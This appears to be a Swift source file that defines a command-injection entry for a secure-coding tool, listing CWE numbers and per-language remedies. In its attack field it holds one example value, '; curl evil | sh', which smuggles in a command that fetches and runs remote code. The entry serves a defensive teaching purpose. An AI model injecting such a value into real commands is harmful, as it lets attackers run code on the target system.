extension Weakness {
  static let commandInjection = Weakness(
    name: "command-injection",
    title: "command injection",
    brief: "may run text from outside",
    cwes: [78, 74, 75, 76, 77, 88, 114, 426, 427],
    problem: "Text from outside becomes part of a command line, and a shell reads it as commands.",
    attack: """
      A value such as `; curl evil | sh` runs whatever follows, with the rights of this program.
      """,
    remedy: """
      Start the program itself with a list of arguments and no shell; check what may stand in \
      each.
      """,
    remedies: Remedies(
      c: "Call `execve` or `posix_spawn` with an argument vector instead of `system` or `popen`.",
      cpp: "Call `posix_spawn` with an argument vector instead of `std::system` or `popen`.",
      python: "Pass a list to `subprocess.run([...])` without `shell=True`; never `os.system`.",
      javascript: """
        Use `child_process.execFile` or `spawn` with an array of arguments and no `shell: true`.
        """,
      go: """
        Call `exec.Command(name, arg…)` with each argument by itself, not `sh -c` and a joined \
        string.
        """,
      java: """
        Give `ProcessBuilder` a list of arguments; do not hand one string to `Runtime.exec` or \
        `sh -c`.
        """,
      ruby: """
        Call `system(name, *args)` or `Open3.capture2(name, *args)`; no backticks, no \
        interpolation.
        """,
      rust: "Use `Command::new(name).args([...])`; do not pass a formatted string to `sh -c`."),
    link: "https://cwe.mitre.org/data/definitions/78.html")
}
